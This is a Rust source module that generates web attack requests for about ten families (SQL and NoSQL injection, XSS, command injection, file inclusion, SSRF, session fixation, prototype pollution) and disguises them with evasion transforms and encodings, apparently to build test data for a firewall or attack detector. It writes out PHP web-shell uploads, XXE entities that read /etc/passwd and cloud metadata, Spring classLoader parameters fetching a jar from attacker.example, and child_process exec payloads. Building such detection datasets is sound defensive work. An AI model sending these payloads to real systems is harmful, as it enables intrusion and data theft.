//! Attack families: hand-written payloads, each put through evasions and placed in several
//! parts of a request (query value, argument name, form body, JSON, multipart, cookie, header,
//! path, XML), with several wire encodings.

use serde_json::json;

use super::clients::{browser_headers, tool_headers, Browser, Ctx, Dest, Tool};
use super::evade::{Payload, Tf};
use super::payloads::*;
use super::text::{self, HOSTS};
use super::{
    boundary, json_str, json_str_escaped, multipart, pct_all, pct_byte, pct_except, pct_form,
    pct_query_value, xml_text, Collector, Family, Part, Req, Rng,
};

#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Loc {
    Query,
    ArgName,
    Form,
    Json,
    Multipart,
    Cookie,
    Header,
    Path,
    Xml,
}

impl Loc {
    fn tag(self) -> &'static str {
        match self {
            Loc::Query => "query",
            Loc::ArgName => "argname",
            Loc::Form => "form",
            Loc::Json => "json",
            Loc::Multipart => "multipart",
            Loc::Cookie => "cookie",
            Loc::Header => "header",
            Loc::Path => "path",
            Loc::Xml => "xml",
        }
    }
}

/// One attack family: its payloads and where and how they may be sent.
pub(crate) struct Spec {
    pub name: &'static str,
    pub count: usize,
    /// Parameter names an application would plausibly read the payload from.
    pub params: &'static [&'static str],
    /// Endpoints.
    pub paths: &'static [&'static str],
    /// Headers the payload may be sent in.
    pub headers: &'static [&'static str],
    pub locs: &'static [(u32, Loc)],
    pub transforms: &'static [(u32, Tf)],
    /// Words `Tf::Case` may change.
    pub keywords: &'static [&'static str],
    /// `(kind, payload)`; a kind ending in `%` marks a payload already percent-encoded.
    pub bases: &'static [(&'static str, &'static str)],
}

pub(crate) fn families() -> Vec<Family> {
    let mut out = Vec::new();
    for spec in SPECS {
        let mut rng = Rng::new(spec.name);
        let mut collector = Collector::new(spec.name, true);
        extras(spec.name, &mut rng, &mut collector);
        generate(spec, &mut rng, &mut collector);
        out.push(collector.finish());
    }
    out
}

fn generate(spec: &Spec, rng: &mut Rng, out: &mut Collector) {
    let mut index = 0usize;
    let mut attempts = 0usize;
    while out.len() < spec.count && attempts < spec.count * 50 {
        attempts += 1;
        let (kind, base) = spec.bases[index % spec.bases.len()];
        index += 1;
        let (kind, base_pre) = match kind.strip_suffix('%') {
            Some(k) => (k, true),
            None => (kind, false),
        };
        // Try a few evasions until one applies.
        let mut chosen = None;
        for _ in 0..6 {
            let tf = *rng.weighted(spec.transforms);
            if let Some(payload) = tf.apply(rng, kind, base, spec.keywords) {
                chosen = Some((tf, payload));
                break;
            }
        }
        let Some((tf, mut payload)) = chosen else {
            continue;
        };
        payload.pre_encoded |= base_pre;
        let loc = *rng.weighted(spec.locs);
        let (enc, req) = place(rng, spec, loc, &payload);
        let mut variant = vec![kind, loc.tag()];
        if !tf.tag().is_empty() {
            variant.push(tf.tag());
        }
        if !enc.is_empty() {
            variant.push(enc);
        }
        out.add_req(&variant.join("-"), &req);
    }
}

// ---------------------------------------------------------------------------------------------
// Placement.

fn host(rng: &mut Rng) -> &'static str {
    rng.pick_str(&HOSTS[..10])
}

/// Headers of an ordinary client: a browser or a command-line tool.
pub(crate) fn base_headers(rng: &mut Rng, host: &str, post: bool) -> Vec<(String, Vec<u8>)> {
    if rng.chance(55) {
        let b = Browser::any(rng);
        let cookie = if rng.chance(50) {
            Some(text::cookies(rng))
        } else {
            None
        };
        let same = rng.chance(60);
        let ctx = Ctx {
            host,
            referer: if same {
                Some(format!("https://{host}/"))
            } else {
                None
            },
            cookie,
            site: if same { "same-origin" } else { "none" },
        };
        browser_headers(
            rng,
            b,
            if post { Dest::FormPost } else { Dest::Document },
            &ctx,
        )
    } else {
        let tool = *rng.pick(&[
            Tool::Curl,
            Tool::Curl,
            Tool::PythonRequests,
            Tool::GoHttp,
            Tool::Postman,
        ]);
        tool_headers(rng, tool, host, "*/*")
    }
}

#[derive(Clone, Copy)]
enum UrlPart {
    Value,
    Name,
    Cookie,
    Path,
}

/// Characters a hand-typed request keeps as they are in each part.
fn keeps(part: UrlPart, b: u8) -> bool {
    match part {
        UrlPart::Value => !matches!(b, b'&' | b'=' | b'+' | b'#'),
        UrlPart::Name => !matches!(b, b'&' | b'=' | b'+' | b'#'),
        UrlPart::Cookie => !matches!(b, b';' | b',' | b'"' | b'\\'),
        UrlPart::Path => !matches!(b, b'?' | b'#'),
    }
}

/// Encodes for a URL-like part; returns the encoding's tag and the text.
fn url_encode(rng: &mut Rng, part: UrlPart, payload: &Payload) -> (&'static str, String) {
    let s = payload.text.as_bytes();
    if payload.pre_encoded {
        // Already holds its escapes: only what could not be sent at all is encoded.
        let mut out = String::new();
        for &b in s {
            if b > 0x20 && b < 0x7f && b != b'#' && (b != b'&' || matches!(part, UrlPart::Path)) {
                out.push(char::from(b));
            } else {
                pct_byte(&mut out, b, false);
            }
        }
        return ("", out);
    }
    let choice = *rng.weighted(&[
        (34, "plain"),
        (16, "form"),
        (18, "url"),
        (10, "dbl"),
        (10, "pctu"),
        (12, "mixed"),
    ]);
    match choice {
        "plain" => ("", pct_except(s, |b| keeps(part, b))),
        "form" if !matches!(part, UrlPart::Path) && s.contains(&b' ') => ("form", pct_form(s)),
        "url" | "form" => ("url", pct_all(s)),
        "dbl" => ("dbl", pct_all(s).replace('%', "%25")),
        "pctu" => {
            let mut out = String::new();
            for &b in s {
                if b.is_ascii_alphanumeric() {
                    out.push(char::from(b));
                } else if b < 0x80 {
                    out.push_str(&format!("%u00{b:02x}"));
                } else {
                    pct_byte(&mut out, b, false);
                }
            }
            ("pctu", out)
        }
        _ => {
            let mut out = String::new();
            for &b in s {
                let must = !(b > 0x20 && b < 0x7f && b != b'%' && keeps(part, b));
                let encode = must
                    || (!b.is_ascii_alphanumeric() && rng.chance(60))
                    || (b.is_ascii_alphanumeric() && rng.chance(15));
                if encode {
                    pct_byte(&mut out, b, rng.chance(50));
                } else {
                    out.push(char::from(b));
                }
            }
            ("mixed", out)
        }
    }
}

fn other_params(rng: &mut Rng) -> Vec<String> {
    let mut v = Vec::new();
    if rng.chance(40) {
        v.push(format!("page={}", rng.range(1, 9)));
    }
    if rng.chance(25) {
        v.push(
            (*rng.pick(&["lang=en", "sort=asc", "view=list", "limit=20", "debug=0"])).to_string(),
        );
    }
    v
}

fn join_query(rng: &mut Rng, pair: String) -> String {
    let mut v = other_params(rng);
    let at = rng.below(v.len() + 1);
    v.insert(at, pair);
    v.join("&")
}

fn place(rng: &mut Rng, spec: &Spec, loc: Loc, payload: &Payload) -> (&'static str, Req) {
    let host = host(rng);
    let param = *rng.pick(spec.params);
    let path = *rng.pick(spec.paths);
    match loc {
        Loc::Query | Loc::ArgName => {
            let (enc, text) = url_encode(
                rng,
                if loc == Loc::Query {
                    UrlPart::Value
                } else {
                    UrlPart::Name
                },
                payload,
            );
            let pair = if loc == Loc::Query {
                format!("{param}={text}")
            } else if rng.chance(70) {
                format!("{text}={}", rng.range(1, 99))
            } else {
                text
            };
            let query = join_query(rng, pair);
            let method = if rng.chance(85) { "GET" } else { "HEAD" };
            let mut req = Req::new(method, format!("{path}?{query}"));
            req.headers(base_headers(rng, host, false));
            (enc, req)
        }
        Loc::Form => {
            let (enc, text) = url_encode(rng, UrlPart::Value, payload);
            let body = join_query(rng, format!("{param}={text}"));
            let mut req = Req::new("POST", path);
            req.headers(base_headers(rng, host, true));
            let ct = *rng.pick(&[
                "application/x-www-form-urlencoded",
                "application/x-www-form-urlencoded; charset=UTF-8",
            ]);
            req.body(Some(ct), body.into_bytes());
            (enc, req)
        }
        Loc::Json => {
            let escaped = rng.chance(25);
            let value = if escaped {
                json_str_escaped(&payload.text)
            } else {
                json_str(&payload.text)
            };
            let body = match rng.below(6) {
                0 | 1 => format!("{{\"{param}\":{value}}}"),
                2 => format!("{{\"data\":{{\"{param}\":{value},\"page\":{}}}}}", rng.range(1, 5)),
                3 => format!("{{\"{param}\":[{value},\"{}\"]}}", rng.alnum(5)),
                4 => format!("{{\"filters\":[{{\"field\":\"{param}\",\"op\":\"eq\",\"value\":{value}}}],\"limit\":{}}}", rng.range(10, 50)),
                _ => format!("{{{value}:\"{}\",\"id\":{}}}", rng.alnum(6), rng.range(1, 999)),
            };
            let mut req = Req::new(
                if rng.chance(85) { "POST" } else { "PUT" },
                *rng.pick(&[
                    "/api/v1/search",
                    "/api/v1/items",
                    "/api/v2/users",
                    "/api/query",
                    path,
                ]),
            );
            if rng.chance(50) {
                req.headers(base_headers(rng, host, true));
            } else {
                let tool = Tool::any(rng);
                req.headers(tool_headers(rng, tool, host, "application/json"));
            }
            let ct = *rng.pick(&["application/json", "application/json; charset=utf-8"]);
            req.body(Some(ct), body.into_bytes());
            (if escaped { "jsonu" } else { "" }, req)
        }
        Loc::Multipart => {
            let boundary = boundary(rng);
            let as_file = rng.chance(15);
            let mut parts = vec![Part::field("csrf_token", rng.alnum(24))];
            if as_file {
                parts.push(Part::file(
                    param,
                    "notes.txt",
                    "text/plain",
                    payload.text.clone().into_bytes(),
                ));
            } else {
                parts.push(Part::field(param, payload.text.clone()));
            }
            if rng.chance(40) {
                parts.push(Part::field("submit", "Save"));
            }
            let body = multipart(&boundary, &parts);
            let mut req = Req::new("POST", path);
            req.headers(base_headers(rng, host, true));
            req.body(
                Some(&format!("multipart/form-data; boundary={boundary}")),
                body,
            );
            (if as_file { "file" } else { "" }, req)
        }
        Loc::Cookie => {
            let (enc, text) = url_encode(rng, UrlPart::Cookie, payload);
            let mut cookie = text::cookies(rng);
            cookie.push_str(&format!("; {param}={text}"));
            let mut req = Req::new("GET", path);
            req.headers(base_headers(rng, host, false));
            req.remove_header("Cookie");
            req.header("Cookie", cookie);
            (enc, req)
        }
        Loc::Header => {
            let name = *rng.pick(spec.headers);
            let raw: String = {
                let mut out = String::new();
                for b in payload.text.bytes() {
                    if b < 0x20 && b != b'\t' || b == 0x7f {
                        pct_byte(&mut out, b, false);
                    } else {
                        out.push(char::from(b));
                    }
                }
                // Non-ASCII text stays as UTF-8.
                if payload.text.is_ascii() {
                    out
                } else {
                    payload.text.replace(['\r', '\n'], " ")
                }
            };
            let value = match name {
                "Referer" => format!(
                    "https://{host}/search?{param}={}",
                    pct_query_value(payload.text.as_bytes())
                ),
                "User-Agent" if rng.chance(30) => {
                    format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) {raw}")
                }
                "Authorization" => format!("Bearer {raw}"),
                _ => raw,
            };
            let mut req = Req::new("GET", path);
            req.headers(base_headers(rng, host, false));
            req.set_header(name, value);
            ("", req)
        }
        Loc::Path => {
            let (enc, text) = url_encode(rng, UrlPart::Path, payload);
            let target = match rng.below(3) {
                0 => format!("{path}/{text}"),
                1 => format!("/static/{text}"),
                _ => format!(
                    "/{}/{text}/view",
                    rng.pick(&["files", "docs", "users", "products"])
                ),
            };
            let mut req = Req::new("GET", target.replace("//", "/"));
            req.headers(base_headers(rng, host, false));
            (enc, req)
        }
        Loc::Xml => {
            let (enc, inner) = match rng.below(3) {
                0 => ("", xml_text(&payload.text)),
                1 => {
                    let mut s = String::new();
                    for c in payload.text.chars() {
                        if c.is_ascii_alphanumeric() {
                            s.push(c);
                        } else {
                            s.push_str(&format!("&#x{:x};", u32::from(c)));
                        }
                    }
                    ("xmlnum", s)
                }
                _ if !payload.text.contains("]]>") => {
                    ("cdata", format!("<![CDATA[{}]]>", payload.text))
                }
                _ => ("", xml_text(&payload.text)),
            };
            let body = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<request><{param}>{inner}</{param}><page>1</page></request>");
            let mut req = Req::new(
                "POST",
                *rng.pick(&["/api/xml", "/services/search", "/ws/query"]),
            );
            let tool = Tool::any(rng);
            req.headers(tool_headers(rng, tool, host, "application/xml"));
            let ct = *rng.pick(&["application/xml", "text/xml; charset=utf-8"]);
            req.body(Some(ct), body.into_bytes());
            (enc, req)
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Requests that do not fit "one payload in one place": NoSQL operators in argument names,
// prototype pollution, Spring's class.* parameters, serialized objects, PHP uploads, XXE.

fn simple(rng: &mut Rng, method: &str, target: String) -> Req {
    let host = host(rng);
    let mut req = Req::new(method, target);
    req.headers(base_headers(rng, host, method == "POST"));
    req
}

fn extras(family: &str, rng: &mut Rng, out: &mut Collector) {
    match family {
        "sqli" => {
            for (i, (name, value)) in [
                ("username[$ne]", "guest"),
                ("password[$gt]", ""),
                ("user[$regex]", "^adm"),
                ("id[$nin][]", "1"),
                ("email[$exists]", "true"),
                ("price[$lte]", "0"),
                ("filter[$where]", "sleep(100)"),
                ("q[$or][0][role]", "admin"),
            ]
            .iter()
            .enumerate()
            {
                let target = if i % 2 == 0 {
                    format!("/login?{name}={value}")
                } else {
                    format!(
                        "/api/v1/users?{}={}",
                        pct_all(name.as_bytes()),
                        pct_all(value.as_bytes())
                    )
                };
                let req = simple(rng, "GET", target);
                out.add_req("nosql-argname", &req);
                let mut req = simple(rng, "POST", "/login".into());
                req.body(
                    Some("application/x-www-form-urlencoded"),
                    format!("{name}={value}&remember=1").into_bytes(),
                );
                out.add_req("nosql-form", &req);
            }
            for body in [
                json!({"username": {"$ne": null}, "password": {"$ne": null}}),
                json!({"username": "admin", "password": {"$gt": ""}}),
                json!({"email": {"$regex": ".*"}, "token": {"$exists": false}}),
                json!({"$where": "this.credits == this.debits || sleep(5000)"}),
                json!({"filter": {"$or": [{"role": "admin"}, {"role": {"$ne": "x"}}]}}),
                json!({"id": {"$in": [1, 2, 3]}, "$comment": "x"}),
            ] {
                let mut req = simple(rng, "POST", "/api/v1/login".into());
                req.body(Some("application/json"), body.to_string().into_bytes());
                out.add_req("nosql-json", &req);
            }
        }
        "nodejs" => {
            for target in [
                "/api/settings?__proto__[isAdmin]=true",
                "/api/settings?__proto__.polluted=1",
                "/profile?constructor[prototype][role]=admin",
                "/search?q=x&__proto__%5BtoString%5D=1",
                "/merge?a[__proto__][shell]=/bin/sh",
                "/render?settings[view%20options][outputFunctionName]=x;process.exit();//",
            ] {
                let req = simple(rng, "GET", target.to_string());
                out.add_req("proto-argname", &req);
            }
            for body in [
                r#"{"__proto__":{"isAdmin":true}}"#,
                r#"{"user":{"name":"eve","__proto__":{"role":"admin"}}}"#,
                r#"{"constructor":{"prototype":{"allowEval":true}}}"#,
                r#"{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require('child_process').execSync('id').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}"#,
                r#"{"a":1,"__proto__":{"env":{"NODE_DEBUG":"require('child_process').exec('id')"}}}"#,
            ] {
                let mut req = simple(rng, "POST", "/api/v1/preferences".into());
                req.body(Some("application/json"), body.as_bytes().to_vec());
                out.add_req("proto-json", &req);
            }
        }
        "java" => {
            for (name, value) in [
                (
                    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                    "%{x}i",
                ),
                (
                    "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
                    ".jsp",
                ),
                ("class.classLoader.URLs[0]", "http://attacker.example/x.jar"),
                (
                    "class.module.classLoader.DefaultAssertionStatus",
                    "nonsense",
                ),
            ] {
                let mut req = simple(rng, "POST", "/register".into());
                let body = format!(
                    "{}={}&name=eve",
                    pct_form(name.as_bytes()),
                    pct_form(value.as_bytes())
                );
                req.body(Some("application/x-www-form-urlencoded"), body.into_bytes());
                out.add_req("spring-form", &req);
                let req = simple(
                    rng,
                    "GET",
                    format!("/greeting?{name}={}", pct_all(value.as_bytes())),
                );
                out.add_req("spring-query", &req);
            }
            // A serialized Java object: stream magic, version, an object of a class.
            for class in [
                "java.util.HashMap",
                "java.lang.ProcessBuilder",
                "org.example.Gadget",
                "javax.management.BadAttributeValueExpException",
            ] {
                let mut data = vec![0xac, 0xed, 0x00, 0x05, 0x73, 0x72];
                data.extend_from_slice(&(class.len() as u16).to_be_bytes());
                data.extend_from_slice(class.as_bytes());
                data.extend(rng.bytes(8));
                data.extend_from_slice(&[0x02, 0x00, 0x00, 0x78, 0x70]);
                let mut req = simple(rng, "POST", "/invoker/readObject".into());
                req.body(Some("application/x-java-serialized-object"), data.clone());
                out.add_req("serial-raw", &req);
                use base64::Engine as _;
                let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
                let req = simple(
                    rng,
                    "GET",
                    format!("/session/restore?state={}", pct_all(b64.as_bytes())),
                );
                out.add_req("serial-b64-query", &req);
                let mut req = simple(rng, "GET", "/dashboard".into());
                req.remove_header("Cookie");
                req.header("Cookie", format!("rememberMe={b64}"));
                out.add_req("serial-b64-cookie", &req);
            }
            for entity in [
                "<!DOCTYPE order [<!ENTITY ext SYSTEM \"file:///etc/passwd\">]>\n<order><note>&ext;</note></order>",
                "<!DOCTYPE r [<!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote;]>\n<r>1</r>",
                "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>\n<x>&c;</x>",
                "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>\n<foo>&xxe;</foo>",
            ] {
                let mut req = simple(rng, "POST", "/api/xml".into());
                req.body(Some("application/xml"), format!("<?xml version=\"1.0\"?>\n{entity}").into_bytes());
                out.add_req("xxe-xml", &req);
            }
        }
        "php" => {
            for (filename, ct) in [
                ("shell.php", "application/x-php"),
                ("avatar.phtml", "image/png"),
                ("image.php5", "image/jpeg"),
                ("invoice.pdf.php", "application/pdf"),
                (".htaccess", "text/plain"),
                ("x.php.", "text/plain"),
            ] {
                let boundary = boundary(rng);
                let content = if filename == ".htaccess" {
                    b"AddType application/x-httpd-php .png\n".to_vec()
                } else {
                    b"<?php echo system($_GET['c']); ?>\n".to_vec()
                };
                let body = multipart(
                    &boundary,
                    &[
                        Part::field("title", "profile"),
                        Part::file("upload", filename, ct, content),
                    ],
                );
                let mut req = simple(rng, "POST", "/upload.php".into());
                req.body(
                    Some(&format!("multipart/form-data; boundary={boundary}")),
                    body,
                );
                out.add_req("upload-multipart", &req);
            }
            for filename in ["shell.php", "cmd.phtml"] {
                let mut req = simple(rng, "PUT", format!("/uploads/{filename}"));
                req.header("X-Filename", filename);
                req.body(
                    Some("application/octet-stream"),
                    b"<?php passthru($_REQUEST['x']); ?>".to_vec(),
                );
                out.add_req("upload-put", &req);
            }
        }
        "session" => {
            for name in [
                "PHPSESSID",
                "jsessionid",
                "JSESSIONID",
                "sessionid",
                "ASPSESSIONIDQABCDEFG",
                "sid",
                "session_id",
                "ASP.NET_SessionId",
            ] {
                let id = rng.alnum(26);
                let mut req = simple(rng, "GET", format!("/login?{name}={id}"));
                req.set_header(
                    "Referer",
                    format!(
                        "https://attacker.example/lure?to=https://{}/login",
                        HOSTS[0]
                    ),
                );
                out.add_req("param-offsite-referer", &req);
                let id = rng.alnum(32);
                let mut req = simple(rng, "GET", format!("/account?{name}={id}"));
                req.remove_header("Referer");
                out.add_req("param-no-referer", &req);
                let mut req = simple(rng, "POST", "/login".into());
                req.remove_header("Referer");
                req.body(
                    Some("application/x-www-form-urlencoded"),
                    format!("user=alice&pass=secret&{name}={}", rng.alnum(20)).into_bytes(),
                );
                out.add_req("form-no-referer", &req);
            }
            for target in [
                format!("/shop;jsessionid={}", rng.hex(32).to_uppercase()),
                format!("/cart;jsessionid={}?item=3", rng.hex(32).to_uppercase()),
                format!("/index.php?PHPSESSID={}&page=home", rng.alnum(26)),
            ] {
                let mut req = simple(rng, "GET", target);
                req.set_header("Referer", "http://attacker.example/");
                out.add_req("path-param", &req);
            }
        }
        _ => {}
    }
}

// ---------------------------------------------------------------------------------------------
// The families.

const ALL_LOCS: &[(u32, Loc)] = &[
    (30, Loc::Query),
    (8, Loc::ArgName),
    (16, Loc::Form),
    (14, Loc::Json),
    (8, Loc::Multipart),
    (8, Loc::Cookie),
    (6, Loc::Header),
    (5, Loc::Path),
    (4, Loc::Xml),
];

pub(crate) const SPECS: &[Spec] = &[
    Spec {
        name: "sqli",
        count: 280,
        params: &[
            "id", "user", "username", "q", "search", "category", "sort", "order", "item", "pid",
            "email", "filter",
        ],
        paths: &[
            "/products",
            "/search",
            "/login",
            "/api/v1/items",
            "/index.php",
            "/catalog/list.asp",
            "/reports/view",
            "/user/profile",
        ],
        headers: &["User-Agent", "Referer", "X-Forwarded-For", "X-Tenant-Id"],
        locs: ALL_LOCS,
        transforms: &[
            (10, Tf::None),
            (4, Tf::Case),
            (4, Tf::SqlComment),
            (3, Tf::SqlVersioned),
            (2, Tf::SqlHash),
            (2, Tf::SqlConcat),
            (2, Tf::Tab),
            (2, Tf::Newline),
            (1, Tf::VTab),
            (1, Tf::FormFeed),
        ],
        keywords: SQL_KEYWORDS,
        bases: SQLI,
    },
    Spec {
        name: "xss",
        count: 260,
        params: &[
            "q",
            "name",
            "comment",
            "message",
            "title",
            "returnUrl",
            "callback",
            "redirect",
            "bio",
            "search",
            "lang",
        ],
        paths: &[
            "/search",
            "/comments",
            "/profile/edit",
            "/guestbook.php",
            "/feedback",
            "/share",
            "/error",
        ],
        headers: &["User-Agent", "Referer", "X-Forwarded-Host"],
        locs: ALL_LOCS,
        transforms: &[
            (9, Tf::None),
            (4, Tf::Case),
            (3, Tf::SlashSep),
            (3, Tf::HtmlEntity),
            (2, Tf::JsHex),
            (2, Tf::JsUnicode),
            (2, Tf::JsConcat),
            (2, Tf::CharCode),
            (2, Tf::Backtick),
            (2, Tf::Tab),
            (2, Tf::Newline),
            (1, Tf::FormFeed),
        ],
        keywords: HTML_KEYWORDS,
        bases: XSS,
    },
    Spec {
        name: "rce",
        count: 250,
        params: &[
            "host", "ip", "cmd", "exec", "ping", "domain", "file", "dir", "target", "q", "arg",
        ],
        paths: &[
            "/cgi-bin/ping.cgi",
            "/tools/ping",
            "/admin/diagnostics",
            "/api/v1/exec",
            "/index.php",
            "/debug/run",
            "/network/lookup",
        ],
        headers: &["User-Agent", "Referer", "X-Forwarded-For", "X-Debug-Cmd"],
        locs: &[
            (30, Loc::Query),
            (6, Loc::ArgName),
            (18, Loc::Form),
            (14, Loc::Json),
            (8, Loc::Multipart),
            (8, Loc::Cookie),
            (8, Loc::Header),
            (3, Loc::Path),
            (3, Loc::Xml),
        ],
        transforms: &[
            (9, Tf::None),
            (3, Tf::Ifs),
            (3, Tf::ShQuote),
            (2, Tf::ShBackslash),
            (2, Tf::ShDollarAt),
            (2, Tf::ShWildcard),
            (2, Tf::ShBrace),
            (2, Tf::NlSep),
            (2, Tf::Tab),
            (3, Tf::Caret),
            (2, Tf::WinQuote),
            (3, Tf::Case),
        ],
        keywords: &[],
        bases: RCE,
    },
    Spec {
        name: "lfi",
        count: 170,
        params: &[
            "file", "page", "path", "include", "template", "doc", "folder", "lang", "view",
            "download", "filename", "img", "style", "conf",
        ],
        paths: &[
            "/index.php",
            "/download",
            "/view",
            "/static",
            "/api/v1/files",
            "/image.php",
            "/help",
        ],
        headers: &["Referer", "X-Original-URL", "X-Template"],
        locs: &[
            (34, Loc::Query),
            (14, Loc::Path),
            (14, Loc::Form),
            (12, Loc::Json),
            (6, Loc::Multipart),
            (8, Loc::Cookie),
            (4, Loc::Header),
            (4, Loc::ArgName),
            (4, Loc::Xml),
        ],
        transforms: &[
            (6, Tf::None),
            (2, Tf::DotBackslash),
            (2, Tf::DotDouble),
            (2, Tf::DotEnc),
            (2, Tf::DotDotEnc),
            (2, Tf::DotDoubleEnc),
            (2, Tf::Overlong),
            (2, Tf::DotU),
            (2, Tf::NullByte),
            (2, Tf::DotSlash),
        ],
        keywords: &[],
        bases: LFI,
    },
    Spec {
        name: "rfi",
        count: 90,
        params: &[
            "include",
            "inc",
            "file",
            "page",
            "url",
            "path",
            "template",
            "module",
            "load",
            "src",
            "require",
            "lib",
            "mosConfig_absolute_path",
        ],
        paths: &[
            "/index.php",
            "/main.php",
            "/modules/loader.php",
            "/components/view.php",
            "/api/v1/render",
        ],
        headers: &["Referer", "X-Include"],
        locs: &[
            (40, Loc::Query),
            (16, Loc::Form),
            (12, Loc::Json),
            (8, Loc::Multipart),
            (8, Loc::Cookie),
            (4, Loc::Header),
            (4, Loc::Xml),
        ],
        transforms: &[(8, Tf::None), (2, Tf::Case), (2, Tf::NullByte)],
        keywords: &["http", "https", "ftp"],
        bases: RFI,
    },
    Spec {
        name: "php",
        count: 150,
        params: &[
            "code", "cmd", "page", "data", "input", "template", "x", "c", "callback", "filter", "q",
        ],
        paths: &[
            "/index.php",
            "/wp-admin/admin-ajax.php",
            "/app/render.php",
            "/api/v1/eval",
            "/debug.php",
            "/cms/preview",
        ],
        headers: &["User-Agent", "Referer", "X-Forwarded-For"],
        locs: ALL_LOCS,
        transforms: &[
            (8, Tf::None),
            (3, Tf::Case),
            (2, Tf::Tab),
            (2, Tf::Newline),
            (3, Tf::PhpComment),
            (1, Tf::StrConcat),
        ],
        keywords: PHP_KEYWORDS,
        bases: PHP,
    },
    Spec {
        name: "java",
        count: 150,
        params: &[
            "q", "name", "message", "template", "expr", "redirect", "action", "lang", "search",
            "username",
        ],
        paths: &[
            "/login.action",
            "/struts2-showcase/index.action",
            "/api/v1/search",
            "/app/greeting",
            "/admin/console",
            "/webtools/control/main",
            "/rest/render",
        ],
        headers: &[
            "User-Agent",
            "Referer",
            "X-Api-Version",
            "X-Forwarded-For",
            "Authorization",
            "X-Request-Id",
            "Accept-Language",
        ],
        locs: &[
            (24, Loc::Query),
            (6, Loc::ArgName),
            (14, Loc::Form),
            (14, Loc::Json),
            (6, Loc::Multipart),
            (8, Loc::Cookie),
            (18, Loc::Header),
            (4, Loc::Path),
            (4, Loc::Xml),
        ],
        transforms: &[(10, Tf::None), (2, Tf::Case)],
        keywords: &[
            "jndi",
            "ldap",
            "rmi",
            "dns",
            "lower",
            "upper",
            "env",
            "Runtime",
            "getRuntime",
            "exec",
        ],
        bases: JAVA,
    },
    Spec {
        name: "ssrf",
        count: 90,
        params: &[
            "url",
            "uri",
            "target",
            "dest",
            "redirect",
            "callback",
            "webhook",
            "image_url",
            "feed",
            "proxy",
            "next",
            "return_url",
            "fetch",
            "endpoint",
        ],
        paths: &[
            "/api/v1/preview",
            "/fetch",
            "/proxy",
            "/webhooks/test",
            "/image/resize",
            "/import/rss",
            "/oauth/callback",
        ],
        headers: &["Referer", "X-Forwarded-Host", "X-Original-URL"],
        locs: &[
            (36, Loc::Query),
            (16, Loc::Form),
            (20, Loc::Json),
            (6, Loc::Multipart),
            (4, Loc::Cookie),
            (6, Loc::Header),
            (4, Loc::Xml),
        ],
        transforms: &[(8, Tf::None), (2, Tf::Case)],
        keywords: &["http", "localhost", "gopher", "file", "dict", "metadata"],
        bases: SSRF,
    },
    Spec {
        name: "session",
        count: 50,
        params: &["name", "comment", "q", "redirect", "msg"],
        paths: &["/guestbook", "/search", "/profile", "/share"],
        headers: &["Referer", "User-Agent"],
        locs: &[
            (30, Loc::Query),
            (14, Loc::Form),
            (10, Loc::Json),
            (6, Loc::Multipart),
            (4, Loc::Cookie),
            (4, Loc::Header),
        ],
        transforms: &[(8, Tf::None), (2, Tf::Case)],
        keywords: &["cookie", "document", "meta", "set-cookie", "http-equiv"],
        bases: SESSION,
    },
    Spec {
        name: "nodejs",
        count: 90,
        params: &[
            "q", "name", "data", "template", "expr", "filter", "callback", "code", "input",
        ],
        paths: &[
            "/api/v1/render",
            "/graphql",
            "/api/eval",
            "/search",
            "/report/generate",
            "/template/preview",
        ],
        headers: &["User-Agent", "Referer", "X-Custom-Data"],
        locs: &[
            (26, Loc::Query),
            (6, Loc::ArgName),
            (16, Loc::Form),
            (22, Loc::Json),
            (6, Loc::Multipart),
            (8, Loc::Cookie),
            (6, Loc::Header),
            (3, Loc::Xml),
        ],
        transforms: &[
            (8, Tf::None),
            (2, Tf::StrConcat),
            (2, Tf::Tab),
            (1, Tf::Newline),
        ],
        keywords: &[],
        bases: NODEJS,
    },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_family_has_params_paths_and_headers() {
        for spec in SPECS {
            assert!(
                !spec.params.is_empty()
                    && !spec.paths.is_empty()
                    && !spec.headers.is_empty()
                    && !spec.bases.is_empty(),
                "{}",
                spec.name
            );
        }
    }
}
